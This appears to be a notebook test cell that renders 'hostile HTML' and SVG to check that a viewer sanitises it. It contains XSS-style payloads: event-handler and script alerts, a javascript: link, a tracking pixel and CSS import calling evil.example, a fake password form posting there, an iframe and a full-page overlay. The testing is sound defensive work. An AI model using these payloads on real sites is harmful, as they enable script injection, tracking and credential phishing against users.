# order: 90
# title: Hostile HTML
# about: What tries to run or to call home
from IPython.display import HTML, SVG, display

display(
    HTML("""
<style>.bar, .run, main > * { display: none } .backendai-item { color: red }
@import url(//evil.example/x.css);</style>
<p onclick="alert(1)" onmouseover="alert(2)">Nothing in this paragraph runs.</p>
<script>document.title = "taken over"</script>
<img src="x" onerror="document.title = 'taken over'" alt="a picture that fails">
<img src="https://evil.example/pixel.png" alt="a picture that calls home">
<a href="javascript:alert(3)">a link that runs a script</a>,
<a href="https://example.org">an honest one</a>
<form action="https://evil.example"><input name="password"><button>Log in</button></form>
<iframe src="https://evil.example"></iframe>
""")
)
display(
    HTML("""
<p>What follows was meant to cover the whole page.</p>
<div style="position: fixed; inset: 0; background: #dc143c55"></div>
""")
)
display(
    SVG("""
<svg xmlns="http://www.w3.org/2000/svg" width="320" height="40" onload="alert(4)">
  <script>alert(5)</script>
  <rect width="320" height="40" rx="8" fill="#3d8f7c"/>
  <text x="160" y="26" text-anchor="middle" fill="white" font-family="sans-serif"
    >An SVG with a script in it</text>
</svg>
""")
)
print("The page is as it was.")
